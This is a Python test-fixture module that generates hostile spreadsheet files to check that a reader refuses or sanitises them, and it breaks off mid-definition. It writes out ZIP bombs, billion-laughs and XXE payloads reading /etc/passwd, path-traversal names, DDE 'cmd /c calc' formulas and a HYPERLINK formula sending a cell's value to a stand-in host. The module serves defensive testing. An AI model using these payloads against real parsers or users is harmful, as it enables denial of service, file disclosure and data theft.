"""The hostile files: each is made by one function when it is wanted, and says what becomes of it.

A function writes its file, or several of one sort, into a folder. `REFUSED` files end in one clear error each, `READ`
files in a clean result. None of them is kept in the repository.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import containers as make
from containers import PROJECTS

MILLION = 1_000_000


@dataclass(frozen=True, slots=True)
class Attack:
    """One sort of hostile file.

    `name` is what its files are called (`*` where there are several), `about` what they are. `refused` is a piece of
    the message of each of them; where it is empty they are read, with two projects, and `found` is a piece of the
    report. A `heavy` one takes seconds or hundreds of MiB, and is run by itself.
    """

    name: str
    about: str
    write: Callable[[Path], None]
    refused: str = ""
    found: str = ""
    heavy: bool = False

    @property
    def outcome(self) -> str:
        """What becomes of its files, in one line."""
        if self.refused:
            return f"refused: … {self.refused} …"
        return f"read; reported: … {self.found} …" if self.found else "read"


ATTACKS: list[Attack] = []


def noise(size: int) -> bytes:
    """Return a comment of `size` bytes that hardly packs, so that what packs well beside it is taken for no bomb."""
    return b"<!--" + random.Random(0).randbytes(size // 2).hex().encode() + b"-->"


def attack(
    name: str, about: str, *, refused: str = "", found: str = "", heavy: bool = False
) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Add the file whose content the function returns."""

    def add(content: Callable[[], bytes]) -> Callable[[], bytes]:
        def write(folder: Path) -> None:
            (folder / name).write_bytes(content())

        ATTACKS.append(Attack(name, about, write, refused, found, heavy))
        return content

    return add


def several(
    name: str, about: str, *, refused: str = "", found: str = ""
) -> Callable[[Callable[[Path], None]], Callable[[Path], None]]:
    """Add the files that the function writes into a folder."""

    def add(write: Callable[[Path], None]) -> Callable[[Path], None]:
        ATTACKS.append(Attack(name, about, write, refused, found))
        return write

    return add


DAMAGED = "is a damaged workbook"
BOMB = "it looks like a ZIP bomb"
BROKE = "its reader broke down over it or ran out of memory"
CUT = "is cut off or damaged"
COLUMNS = "columns, and at most 500 are read"
LOCKED = "is protected by a password"

# --- ZIP containers -------------------------------------------------------------------------------------------------


@attack("bomb.xlsx", "a part that unpacks to a thousand times its size", refused=BOMB)
def _bomb() -> bytes:
    return make.xlsx(make.sheet_xml(inside=b" " * (30 * MILLION)))


@attack("bomb-overlapping.xlsx", "two thousand entries of the directory that share one stream", refused="unpacks to")
def _bomb_overlapping() -> bytes:
    stream = make.deflated_again_and_again(b"\0" * MILLION, 100)
    return make.with_stream(make.xlsx(), "x.bin", stream, 100 * MILLION, times=2000)


@attack("lying-size.xlsx", "a directory that says 1,000 bytes of a part that unpacks to 400 MB", refused=DAMAGED)
def _lying_size() -> bytes:
    parts = make.xlsx_parts([("projects", make.sheet_xml())])
    name = "xl/worksheets/sheet1.xml"
    head, tail = parts.pop(name).split(b"<sheetData>")
    filler = b'<row r="1"><c r="A1"/></row>' * 40_000
    packed = make.deflated_again_and_again(filler, 350)
    del head, tail
    return make.with_stream(make.zipped(parts), name, packed, 1000)


@attack("same-name-parts.xlsx", "two parts of one name: which of them counts?", refused=DAMAGED)
def _same_name_parts() -> bytes:
    other = make.sheet_xml([PROJECTS[0], ["P99", "换了", "ORG-9", "health"]])
    return make.with_member(make.xlsx(), "xl/worksheets/sheet1.xml", other)


@attack("zip64.xlsx", "a ZIP with the long form of sizes")
def _zip64() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in make.xlsx_parts([("projects", make.sheet_xml())]).items():
            with archive.open(name, "w", force_zip64=True) as member:
                member.write(content)
    return target.getvalue()


@attack("deflate64.xlsx", "a part packed by a method that hardly anything unpacks", refused=DAMAGED)
def _deflate64() -> bytes:
    return make.patched_zip(make.xlsx(), "xl/worksheets/sheet1.xml", method=9)


@attack("encrypted-part.xlsx", "a ZIP whose part asks for a password", refused=LOCKED)
def _encrypted_part() -> bytes:
    return make.patched_zip(make.xlsx(), "xl/worksheets/sheet1.xml", flags=1)


@attack("nested.xlsx", "a workbook in the place of a sheet", refused=DAMAGED)
def _nested() -> bytes:
    return make.xlsx(make.xlsx())


@attack("paths-that-climb.xlsx", "parts called ../../evil and /etc/evil, which are never unpacked to the disk")
def _paths_that_climb() -> bytes:
    parts = make.xlsx_parts([("projects", make.sheet_xml())])
    return make.zipped(parts | {"../../evil.txt": b"x", "/etc/evil.txt": b"x", "C:\\evil.txt": b"x"})


@attack("target-that-climbs.xlsx", "a sheet said to be at ../../../../etc/passwd", refused=DAMAGED)
def _target_that_climbs() -> bytes:
    return make.xlsx(rels=make.relations({"rId1": ("worksheet", "../../../../../../etc/passwd")}))


@attack("one-part-many-sheets.xlsx", "999 sheets that are all the same part", refused=DAMAGED)
def _one_part_many_sheets() -> bytes:
    names = [f"s{number}" for number in range(999)]
    rels = make.relations({f"rId{number}": ("worksheet", "worksheets/sheet1.xml") for number in range(1, 1000)})
    return make.xlsx(workbook=make.workbook_xml(names), rels=rels)


@attack("many-members.xlsx", "a directory of 60,000 members", heavy=True)
def _many_members() -> bytes:
    return make.with_stream(make.xlsx(), "x", make.deflated_again_and_again(b"", 1), 0, times=60_000)


@several("cut-*.xlsx", "a workbook cut off after each twentieth of its length", refused=CUT)
def _cut_xlsx(folder: Path) -> None:
    _cut(folder, "xlsx", make.xlsx())


def _cut(folder: Path, ending: str, content: bytes) -> None:
    for part in range(1, 20):
        (folder / f"cut-{part:02}.{ending}").write_bytes(content[: len(content) * part // 20])


# --- XML ------------------------------------------------------------------------------------------------------------

_LAUGHS = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
_LAUGHTER = f'<!DOCTYPE lolz [<!ENTITY l0 "lol">{_LAUGHS}]>\n'


def _with_head(part: bytes, head: str) -> bytes:
    return part.replace(b"?>\n", b"?>\n" + head.encode(), 1)


@attack(
    "laughs-workbook.xlsx", "a billion laughs: entities that grow to gigabytes, in the list of sheets", refused=DAMAGED
)
def _laughs_workbook() -> bytes:
    return make.xlsx(workbook=make.workbook_xml(["&l9;"], head=_LAUGHTER).replace(b"&amp;", b"&"))


@attack("laughs-sheet.xlsx", "a billion laughs in a cell", refused=DAMAGED)
def _laughs_sheet() -> bytes:
    part = make.sheet_xml([*PROJECTS, ["P03", "LAUGH", "ORG-1", "relief"]]).replace(b"LAUGH", b"&l9;")
    return make.xlsx(_with_head(part, _LAUGHTER))


@attack("laughs-strings.xlsx", "a billion laughs in the shared texts", refused=DAMAGED)
def _laughs_strings() -> bytes:
    return make.xlsx(strings=make.strings_xml(["&l9;"] * 9, 9, _LAUGHTER))


@attack("outside-entity.xlsx", "an entity that stands for /etc/passwd, in a cell", refused=DAMAGED)
def _outside_entity() -> bytes:
    part = make.sheet_xml([*PROJECTS, ["P03", "SECRET", "ORG-1", "relief"]]).replace(b"SECRET", b"&secret;")
    return make.xlsx(_with_head(part, '<!DOCTYPE a [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'))


@attack("laughs.ods", "a billion laughs in an OpenDocument cell", refused=DAMAGED)
def _laughs_ods() -> bytes:
    return make.ods(make.ods_rows() + f"<table:table-row>{make.ods_cell('&l9;') * 4}</table:table-row>", head=_LAUGHTER)


@attack("deep-workbook.xlsx", "300,000 elements one within the other, in the list of sheets")
def _deep_workbook() -> bytes:
    extra = "<a>" * 300_000 + "</a>" * 300_000
    return make.xlsx(workbook=make.workbook_xml(["projects"], extra))


@attack("deep-sheet.xlsx", "200,000 elements one within the other, in a sheet, with noise that does not pack")
def _deep_sheet() -> bytes:
    beside = noise(40_000)
    return make.xlsx(make.sheet_xml(inside=b"<a>" * 200_000 + b"</a>" * 200_000, after=beside))


@attack("other-encoding.xlsx", "a list of sheets in an encoding that there is not", refused=DAMAGED)
def _other_encoding() -> bytes:
    return make.xlsx(workbook=make.workbook_xml(["projects"]).replace(b'version="1.0"', b'version="1.0" encoding="X"'))


# --- Sheets of XLSX -------------------------------------------------------------------------------------------------


@attack("million-styled-rows.xlsx", "a million rows that are empty, with a style each", heavy=True)
def _million_styled_rows() -> bytes:
    rows = b'<row s="1" customFormat="1"/>' * MILLION
    return make.xlsx(make.sheet_xml(inside=rows, after=noise(400_000)))


@attack("million-styled-cells.xlsx", "a million cells that are empty, with a style each", heavy=True)
def _million_styled_cells() -> bytes:
    rows = (b"<row>" + b'<c s="1"/>' * 5 + b"</row>") * (MILLION // 5)
    return make.xlsx(make.sheet_xml(inside=rows, after=noise(200_000)))


@attack("columns.xlsx", "a header in each of 16,384 columns", refused=COLUMNS)
def _columns() -> bytes:
    return make.xlsx(make.sheet_xml([[*PROJECTS[0], *(f"h{number}" for number in range(16_380))], *PROJECTS[1:]]))


@attack("styled-columns.xlsx", "16,384 columns that are empty, with a style each")
def _styled_columns() -> bytes:
    cells = "".join(f'<c r="{make.letters(index)}4" s="{index % 5}"/>' for index in range(16_384))
    return make.xlsx(make.sheet_xml(inside=f'<row r="4">{cells}</row>'.encode()))


_FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'


@attack("far-cell.xlsx", "one cell in the last corner of the sheet", refused=COLUMNS)
def _far_cell() -> bytes:
    return make.xlsx(make.sheet_xml(inside=_FAR))


@attack(
    "far-cell-denied.xlsx", "a cell in the last corner of a sheet of 1 MB that says that it ends in D3", refused=BROKE
)
def _far_cell_denied() -> bytes:
    beside = noise(1_000_000)
    return make.xlsx(make.sheet_xml(before=b'<dimension ref="A1:D3"/>', inside=beside + _FAR))


@attack("far-cell-late-dimension.xlsx", "the same, said only behind 300 KB of noise", refused=COLUMNS)
def _far_cell_late_dimension() -> bytes:
    beside = noise(300_000)
    return make.xlsx(make.sheet_xml(before=beside + b'<dimension ref="A1:D3"/>', inside=_FAR))


@attack("odd-references.xlsx", "references written with blanks and single quotes", refused=COLUMNS)
def _odd_references() -> bytes:
    return make.xlsx(make.sheet_xml(inside=b"<row r = '4'><c\n r = 'ZZZ99999' ><v>1</v></c></row>"))


@attack("no-references.xlsx", "600 cells in a row that do not say where they are", refused=COLUMNS)
def _no_references() -> bytes:
    return make.xlsx(make.sheet_xml(inside=b"<row>" + b"<c><v>1</v></c>" * 600 + b"</row>"))


@attack("many-rows.xlsx", "a cell in row 1,048,576 of column 400", refused="reaches over")
def _many_rows() -> bytes:
    return make.xlsx(make.sheet_xml(inside=b'<row r="1048576"><c r="OJ1048576"><v>1</v></c></row>'))


@attack("tall.xlsx", "a cell in row 1,048,576 of the first column, with nothing between", heavy=True)
def _tall() -> bytes:
    return make.xlsx(make.sheet_xml(inside=b'<row r="1048576"><c r="C1048576"><v>1</v></c></row>'))


@attack("huge-dimension.xlsx", "a sheet of three rows that says that it reaches to the last corner")
def _huge_dimension() -> bytes:
    return make.xlsx(make.sheet_xml(before=b'<dimension ref="A1:XFD1048576"/>'))


@attack("overflowing-dimension.xlsx", "a sheet that says that it reaches to ZZZZZZZZZZ99999999999")
def _overflowing_dimension() -> bytes:
    return make.xlsx(make.sheet_xml(before=b'<dimension ref="A1:ZZZZZZZZZZ99999999999"/>'))


@attack("backward-dimension.xlsx", "a sheet that says that it reaches from D9 to A1")
def _backward_dimension() -> bytes:
    return make.xlsx(make.sheet_xml(before=b'<dimension ref="D9:A1"/>'))


@attack("million-merges.xlsx", "300,000 merged ranges that overlap", heavy=True)
def _million_merges() -> bytes:
    merges = "".join(f'<mergeCell ref="A{number % 99 + 1}:D{number + 2}"/>' for number in range(300_000))
    return make.xlsx(make.sheet_xml(after=f"<mergeCells>{merges}</mergeCells>".encode()))


@attack("huge-merges.xlsx", "merged ranges over the whole sheet, backwards, and beyond the last row")
def _huge_merges() -> bytes:
    references = ("F1:XFD1048576", "D3:C3", "F4294967295:F4294967296")
    merges = "".join(f'<mergeCell ref="{reference}"/>' for reference in references[:2])
    return make.xlsx(make.sheet_xml(after=f"<mergeCells>{merges}</mergeCells>".encode()))


@attack("hidden-columns.xlsx", "200,000 ranges of hidden columns that overlap", heavy=True)
def _hidden_columns() -> bytes:
    columns = b'<col min="5" max="16384" hidden="1"/>' * 200_000
    return make.xlsx(make.sheet_xml(before=b"<cols>" + columns + b"</cols>", after=noise(200_000)))


@attack("many-names.xlsx", "300,000 defined names", refused=DAMAGED, heavy=True)
def _many_names() -> bytes:
    names = "".join(f'<definedName name="n{number}">projects!$A${number}</definedName>' for number in range(300_000))
    return make.xlsx(workbook=make.workbook_xml(["projects"], f"<definedNames>{names}</definedNames>"))


@attack("error-marks.xlsx", "three million marks of error cells that are none", heavy=True)
def _error_marks() -> bytes:
    marks = b' t="e" ' * 3 * MILLION
    return make.xlsx(make.sheet_xml(inside=b"<!--" + marks + b"-->", after=noise(300_000)))


@attack("error-marks-one-tag.xlsx", "300,000 marks of error cells within one tag")
def _error_marks_one_tag() -> bytes:
    marks = "".join(f' t="e" a{number}="1"' for number in range(300_000))
    return make.xlsx(make.sheet_xml(inside=f'<row r="4"><c r="F4"{marks}/></row>'.encode()))


@attack("error-cells.xlsx", "300,000 error cells without a value", heavy=True)
def _error_cells() -> bytes:
    rows = b'<row r="4"><c r="F4" t="e"></c></row>' * 300_000
    return make.xlsx(make.sheet_xml(inside=rows, after=noise(200_000)))


@attack("links.xlsx", "links to another workbook, to a server and to a program, and a macro sheet's call")
def _links() -> bytes:
    parts = make.xlsx_parts(
        [
            (
                "projects",
                make.sheet_xml(
                    inside=b'<row r="4"><c r="F4"><f>[1]Sheet1!A1</f><v>5</v></c><c r="G4" t="str">'
                    b'<f>cmd|\'/c calc\'!A0</f><v>x</v></c><c r="H4"><f>WEBSERVICE("http://198.51.100.7/")</f></c></row>',
                    after=b'<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>',
                ),
            )
        ]
    )
    target = "http://198.51.100.7/evil.xlsx"
    outside = make.relations({"rId1": ("externalLinkPath", target)}).replace(b"/>", b' TargetMode="External"/>')
    links = f'<externalLink xmlns="{make.MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()
    return make.zipped(
        parts
        | {
            "xl/externalLinks/externalLink1.xml": links,
            "xl/externalLinks/_rels/externalLink1.xml.rels": outside,
            "xl/worksheets/_rels/sheet1.xml.rels": outside.replace(b"externalLinkPath", b"hyperlink"),
            "xl/connections.xml": b"<connections><connection refreshOnLoad='1'/></connections>",
        }
    )


@attack("macros.xlsm", "a macro workbook whose macros are garbage")
def _macros() -> bytes:
    parts = make.xlsx_parts([("projects", make.sheet_xml())])
    return make.zipped(parts | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 2000})


@attack("comments.xlsx", "100,000 comments on one cell")
def _comments() -> bytes:
    comments = '<comment ref="A1" authorId="0"><text><t>x</t></text></comment>' * 100_000
    parts = make.xlsx_parts([("projects", make.sheet_xml())])
    rels = make.relations({"rId1": ("comments", "../comments1.xml")})
    text = f"<comments>{noise(80_000).decode()}<commentList>{comments}</commentList></comments>".encode()
    return make.zipped(parts | {"xl/comments1.xml": text, "xl/worksheets/_rels/sheet1.xml.rels": rels})


# --- Shared texts ---------------------------------------------------------------------------------------------------


def _with_strings(strings: bytes, number: str) -> bytes:
    cell = f'<row r="4"><c r="F4" t="s"><v>{number}</v></c></row>'.encode()
    return make.xlsx(make.sheet_xml(inside=cell), strings=strings)


@attack("strings-promised.xlsx", "a promise of 99,999,999,999 shared texts", refused=BROKE)
def _strings_promised() -> bytes:
    return _with_strings(make.strings_xml(["x"], 99_999_999_999), "0")


@attack("strings-missing.xlsx", "a cell that shows shared text number 4,000,000,000 of one", refused=DAMAGED)
def _strings_missing() -> bytes:
    return _with_strings(make.strings_xml(["x"], 1), "4000000000")


@attack("strings-negative.xlsx", "a cell that shows shared text number -1")
def _strings_negative() -> bytes:
    return _with_strings(make.strings_xml(["x"], 1), "-1")


@attack("strings-cut.xlsx", "shared texts whose XML breaks off", refused=DAMAGED)
def _strings_cut() -> bytes:
    return _with_strings(make.strings_xml(["x"] * 50, 50)[:900], "3")


@attack("strings-empty.xlsx", "three million shared texts that are empty", heavy=True)
def _strings_empty() -> bytes:
    return _with_strings(make.strings_xml([""], 1).replace(b"<si><t></t></si>", b"<si/>" * 3 * MILLION), "0")


# --- Names of sheets ------------------------------------------------------------------------------------------------


@attack("same-names.xlsx", "two sheets of one name", refused="has two sheets called")
def _same_names() -> bytes:
    other = make.sheet_xml([PROJECTS[0], ["P03", "另一个", "ORG-2", "relief"]])
    return make.zipped(make.xlsx_parts([("projects", make.sheet_xml()), ("projects", other)]))


@attack("many-sheets.xlsx", "1,001 sheets", refused="has 1,001 sheets, and at most 1,000 are read")
def _many_sheets() -> bytes:
    return make.zipped(make.xlsx_parts([(f"s{number}", b"<worksheet/>") for number in range(1001)]))


@attack("thousand-sheets.xlsx", "1,000 sheets, of which one is a table", heavy=True)
def _thousand_sheets() -> bytes:
    blank = make.sheet_xml([["x"]])
    return make.zipped(make.xlsx_parts([("projects", make.sheet_xml()), *((f"s{n}", blank) for n in range(999))]))


@attack(
    "long-name.xlsx",
    "a sheet with a name of 30,000 characters, and a table that lacks its title",
    refused="whose name has 30,009 characters, and at most 255 are read",
)
def _long_name() -> bytes:
    rows = [[line[0], *line[2:]] for line in PROJECTS]
    return make.zipped(make.xlsx_parts([("projects " + "长" * 30_000, make.sheet_xml(rows))]))


def _with_sheet_name(name: bytes) -> bytes:
    parts = make.xlsx_parts([("NAME", make.sheet_xml([*PROJECTS, [None, "无编号", "ORG-1", "relief"]]))])
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"NAME", name)
    return make.zipped(parts)


@attack("escapes-in-sheet-name.xlsx", "a sheet named by an escape sequence, which XML forbids", refused=DAMAGED)
def _escapes_in_sheet_name() -> bytes:
    return _with_sheet_name(b"&#x1b;[31mprojects")


@attack(
    "marks-in-sheet-name.xlsx",
    "a sheet named by direction marks and C1 control characters",
    found="\ufffd31mprojects\ufffd\ufffd2J › A4",
)
def _marks_in_sheet_name() -> bytes:
    return _with_sheet_name(b"&#x9b;31mprojects\xe2\x80\xae&#x9b;2J")


@attack("no-sheets.xlsx", "a workbook that lists no sheet", refused="is an empty workbook")
def _no_sheets() -> bytes:
    return make.zipped(make.xlsx_parts([]))


# --- Cells ----------------------------------------------------------------------------------------------------------

_STEERING = "\x1b[2J\x1b]0;title\x07\x9b31m\r\x00\x08\u202e\u2066\u200b\ufeff\x7f"
_FORMULAS = (
    '=HYPERLINK("http://198.51.100.7/?"&A1,"Click")',
    "=cmd|'/c calc'!A0",
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "＝1+1",
    '=DDE("cmd";"/c calc";"x")',
)


def _csv(rows: make.Rows, encoding: str = "utf-8", errors: str = "strict") -> bytes:
    lines = (",".join('"' + str(cell or "").replace('"', '""') + '"' for cell in line) for line in rows)
    return "".join(f"{line}\r\n" for line in lines).encode(encoding, errors)


def _with_funds(rows: make.Rows) -> bytes:
    funds = [["project_id", "campaign", "total_amount"], *rows]
    return make.zipped(make.xlsx_parts([("projects", make.sheet_xml()), ("funds", make.sheet_xml(funds))]))


@attack(
    "escapes-in-cells.csv",
    "escape sequences, NUL-free control characters and direction marks in cells",
    found='Field is "\ufffd[2J\ufffd]0;title',
)
def _escapes_in_cells() -> bytes:
    steering = _STEERING.replace("\x00", "").replace("\r", "")
    rows = [
        [*PROJECTS[0], f"org{steering}name"],
        *([f"EC{n}", f"爱{steering}心", "ORG-1", f"{steering}x"] for n in (1, 2)),
    ]
    return _csv(rows)


@attack(
    "escapes-in-cells.xlsx",
    "the same in a workbook, by character references",
    found='Field is "\ufffd[2J\ufffd]0;title',
)
def _escapes_in_cells_xlsx() -> bytes:
    rows = [PROJECTS[0], *([f"EX{n}", "STEER", "ORG-1", "STEERx"] for n in (1, 2))]
    steering = "".join(f"&#{ord(character)};" for character in _STEERING if character != "\x00").encode()
    return make.xlsx(make.sheet_xml(rows).replace(b"STEER", steering))


@attack("nul-in-cell.xlsx", "a NUL in a cell, by a character reference", refused=DAMAGED)
def _nul_in_cell() -> bytes:
    return make.xlsx(make.sheet_xml().replace("爱心".encode(), b"&#0;"))


@attack("underscore-escapes.xlsx", "control characters as Excel escapes them: _x001B_")
def _underscore_escapes() -> bytes:
    return make.xlsx(
        make.sheet_xml().replace(b"P01", b"UE1").replace("爱心".encode(), b"_x001B_[2J_x0000__xD800__x202E_")
    )


@attack(
    "formulas.csv",
    "texts that begin as formulas do, in every cell that a report shows",
    found="Field is \"=cmd|'/c calc'!A0\"",
)
def _formulas_csv() -> bytes:
    rows = [[text.strip(), text, text, text] for text in _FORMULAS]
    return _csv([*PROJECTS, *rows])


@attack(
    "formulas.xlsx",
    "the same as texts of a workbook",
    found="Other values are +1+cmd|'/c calc'!A0, -2+3.",
)
def _formulas_xlsx() -> bytes:
    return _with_funds([["P01", text, text] for text in _FORMULAS])


@attack(
    "edge-dates.xlsx",
    "serial numbers of days before, at and after every edge",
    found='Launched on is "9.223372036854776e+18", which is no date',
)
def _edge_dates() -> bytes:
    serials = [0, 1, 59, 60, 61, -1, 0.5, 18_264, 73_050, 2_958_465, 2_958_466, 1e300, -1e300, 2**63, 1e-300]
    rows = [[f"ED{n:02}", f"题{n}", "ORG-1", "relief", serial] for n, serial in enumerate(serials, 1)]
    return make.xlsx(make.sheet_xml([[*PROJECTS[0], "launched_on"], *rows]))


@attack(
    "edge-dates-styled.xlsx", "the same, formatted as dates", found='Launched on is "1000000000000", which is no date'
)
def _edge_dates_styled() -> bytes:
    return _styled_dates("0", "1", "59", "60", "61", "-1", "2958465", "2958466", "20190909", "1E12", "1E300", "NaN")


@attack("day-before-all-days.xlsx", "a cell formatted as a date that holds -1E300", refused=DAMAGED)
def _day_before_all_days() -> bytes:
    return _styled_dates("-1E300")


def _styled_dates(*serials: str) -> bytes:
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="str"><v>DS{n}</v></c><c r="B{n}" t="str"><v>T{n}</v></c><c r="C{n}" t="str">'
        f'<v>O</v></c><c r="D{n}" t="str"><v>relief</v></c><c r="E{n}" s="1"><v>{serial}</v></c></row>'
        for n, serial in enumerate(serials, 2)
    )
    styles = f'<styleSheet xmlns="{make.MAIN}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    parts = make.xlsx_parts([("projects", make.sheet_xml([[*PROJECTS[0], "launched_on"]], inside=rows.encode()))])
    return make.zipped(parts | {"xl/styles.xml": styles.encode()})


@attack(
    "edge-date-texts.csv", "texts of days that there are not", found='Launched on is "-2019-01-01", which is no date'
)
def _edge_date_texts() -> bytes:
    days = ["0000-00-00", "2019-02-30", "9999-12-31", "10000-01-01", "1900-02-29", "2019-13-01", "99/99/9999", "19"]
    days += ["2019年" * 5000, "1e9", "٢٠١٩-٠١-٠١", "2019-1" + "0" * 5000, "-2019-01-01", "2019-01-01T25:61:61Z"]
    return _csv([[*PROJECTS[0], "launched_on"], *([f"DT{n}", "题", "O", "relief", day] for n, day in enumerate(days))])


@attack("edge-amounts.xlsx", "numbers that no amount of money is", found='Total raised is "1e+300", which is too large')
def _edge_amounts() -> bytes:
    numbers = [1e300, -1e300, 1e-300, 2.0**63, 2.0**53 + 2, 9999999999999999999.0, 0.1 + 0.2, -0.0, 1e16, 5e-324]
    return _with_funds([["P01", f"c{n}", number] for n, number in enumerate(numbers)])


@attack(
    "edge-amount-texts.csv",
    "texts that no amount of money is",
    found="All 19 cells of this column have the same fault.",
)
def _edge_amount_texts() -> bytes:
    texts = ["1E400", "-1E400", "1e999999999", "9" * 30_000, "1," * 15_000, "(" * 30_000, "万" * 30_000, "NaN", "∞"]
    texts += ["0x1F", "1_000", "١٢٣", "½", "1e", "--1", "￥" * 9999, "0." + "0" * 29_000 + "1", "1" + "亿" * 9, "٫٬"]
    rows = [[*PROJECTS[0], "campaign", "total_amount"]]
    return _csv([*rows, *([f"AT{n}", "题", "O", "relief", f"t{n}", text] for n, text in enumerate(texts))])


@attack(
    "not-numbers.xlsx",
    "number cells that hold NaN, infinity and 1E400",
    found='Total raised is "-inf", which is no amount',
)
def _not_numbers() -> bytes:
    parts = [f'<c r="C{n}"><v>{text}</v></c>' for n, text in enumerate(("NaN", "inf", "-inf", "1E400", "-1E400"), 2)]
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="str"><v>P01</v></c><c r="B{n}" t="str"><v>x{n}</v></c>{part}</row>'
        for n, part in enumerate(parts, 2)
    )
    funds = make.sheet_xml([["project_id", "campaign", "total_amount"]], inside=rows.encode())
    return make.zipped(make.xlsx_parts([("projects", make.sheet_xml()), ("funds", funds)]))


@attack("words-for-numbers.xlsx", "a number cell that holds words")
def _words_for_numbers() -> bytes:
    return make.xlsx(make.sheet_xml(inside=b'<row r="4"><c r="F4"><v>twelve</v></c></row>'))


@attack("long-cell.xlsx", "a cell of 40,000 characters", refused="has more than 32,767 characters")
def _long_cell() -> bytes:
    return make.xlsx(make.sheet_xml([*PROJECTS, ["P03", noise(40_000).decode(), "ORG-1", "relief"]]))


@attack("marks.csv", "letters under 30,000 combining marks each")
def _marks() -> bytes:
    return _csv([PROJECTS[0], *([f"MK{n}", "Z" + "\u0301\u0327" * 15_000, "ORG-1", "relief"] for n in (1, 2))])


@attack("long-titles.csv", "titles of 30,000 characters, one word each")
def _long_titles() -> bytes:
    return _csv(
        [
            PROJECTS[0],
            *([f"LT{n}", sign * 30_000, "ORG-1", "relief"] for n, sign in enumerate(("长", "W", "\u3000"))),
        ]
    )


@attack("long-headers.csv", "500 headers, of all sorts, up to 30,000 characters", found="/long-headers.csv › A4")
def _long_headers() -> bytes:
    headers = [f"total amoun{n}" * (n % 40 + 1) for n in range(490)] + ["筹款总额" * 7000] * 6
    return _csv(
        [[*PROJECTS[0], *headers], *([*line, *["1"] * 496] for line in [*PROJECTS[1:], [None, "x", "O", "relief"]])]
    )


@attack("bad-cells.csv", "3,000 rows in which no cell can be read", found="which is no amount", heavy=True)
def _bad_cells() -> bytes:
    columns = ["project_id", "title", "org_id", "field", "launched_on", "target_amount", "starts_on", "ends_on"]
    rows = "".join(f"P{n},t{n},o,x{n % 99},31/31/{n},{n}x,?{n},!{n}\n" for n in range(3_000))
    return (",".join(columns) + "\n" + rows).encode()


# --- XLS ------------------------------------------------------------------------------------------------------------


@attack("excel-95.xls", "a workbook of 1995 whose texts are bytes of a Chinese code page", refused="Excel 95")
def _excel_95() -> bytes:
    return make.biff5()


@attack("excel-97-code-page.xls", "a workbook of 1997 that names a code page, which it does not use", found="新年心意")
def _excel_97_code_page() -> bytes:
    return make.biff8(
        make.biff8_cells([PROJECTS[0], ["CP1", "新年心意", "ORG-1", "health"]]),
        before=make.record(0x42, struct.pack("<H", 936)),
    )


@attack("excel-4.xls", "a workbook of 1992", refused="a workbook of Excel 4 or older")
def _excel_4() -> bytes:
    return make.record(0x409, struct.pack("<3H", 0, 0x10, 0)) + make.record(0x0A)


@attack("password.xls", "a workbook of 1997 with a password", refused=LOCKED)
def _password_xls() -> bytes:
    return make.biff8(make.biff8_cells(), before=make.record(0x2F, struct.pack("<3H", 1, 1, 1) + bytes(48)))


@attack("password.xlsx", "a workbook with a password: a compound file with an EncryptedPackage", refused=LOCKED)
def _password_xlsx() -> bytes:
    return make.compound(noise(9000), "EncryptedPackage")


@attack("word.xls", "a Word document of 1997", refused=DAMAGED)
def _word() -> bytes:
    return make.compound(noise(9000), "WordDocument")


@attack("chain-in-a-circle.xls", "a compound file whose chain of sectors never ends")
def _chain_in_a_circle() -> bytes:
    content = bytearray(make.biff8(make.biff8_cells()))
    table = 512 * (1 + struct.unpack_from("<L", content, 76)[0])
    struct.pack_into("<L", content, table + 4 * 3, 1)
    return bytes(content)


@attack("chain-of-tables-in-a-circle.xls", "a compound file whose list of tables never ends", refused=BROKE)
def _chain_of_tables_in_a_circle() -> bytes:
    content = bytearray(make.biff8(make.biff8_cells()))
    struct.pack_into("<2L", content, 68, 0, 0xFFFFFFFF)
    return bytes(content)


@attack("far-cell.xls", "a cell in the last corner of a sheet of 1997", refused=BROKE)
def _far_cell_xls() -> bytes:
    return make.biff8(make.biff8_cells() + make.record(0x203, struct.pack("<3Hd", 65_535, 65_535, 0, 1.0)))


@attack("strings-promised.xls", "a promise of 4,294,967,295 shared texts")
def _strings_promised_xls() -> bytes:
    return make.biff8(make.biff8_cells(), before=make.record(0xFC, struct.pack("<2L", 2**32 - 1, 2**32 - 1)))


@attack("endless-text.xls", "a cell whose text is longer than its record")
def _endless_text() -> bytes:
    return make.biff8(make.biff8_cells() + make.record(0x204, struct.pack("<4HB", 3, 0, 0, 65_535, 1) + b"x"))


@several("cut-*.xls", "a workbook of 1997 cut off after each twentieth of its length", refused=DAMAGED)
def _cut_xls(folder: Path) -> None:
    _cut(folder, "xls", make.biff8(make.biff8_cells([*PROJECTS, *([f"P{n}", "题", "O", "relief"] for n in range(99))])))


# --- XLSB -----------------------------------------------------------------------------------------------------------


@attack("garbage.xlsb", "a binary workbook of noise", refused=DAMAGED)
def _garbage_xlsb() -> bytes:
    return make.xlsb(workbook=bytes(range(256)) * 40)


@attack("huge-dimension.xlsb", "a binary sheet that says that it reaches to row 4,294,967,295")
def _huge_dimension_xlsb() -> bytes:
    return make.xlsb(make.xlsb_sheet(size=(0, 2**32 - 1, 0, 2**32 - 1)))


@attack("far-cell.xlsb", "a cell in the last corner of a binary sheet", refused=BROKE)
def _far_cell_xlsb() -> bytes:
    cell = make.binary_record(0, struct.pack("<L", 1_048_575) + bytes(13)) + make.binary_record(
        6, struct.pack("<2L", 16_383, 0) + make.wide("x")
    )
    return make.xlsb(make.xlsb_sheet(more=cell))


@attack("strings-promised.xlsb", "a binary promise of 4,294,967,295 shared texts", refused=DAMAGED)
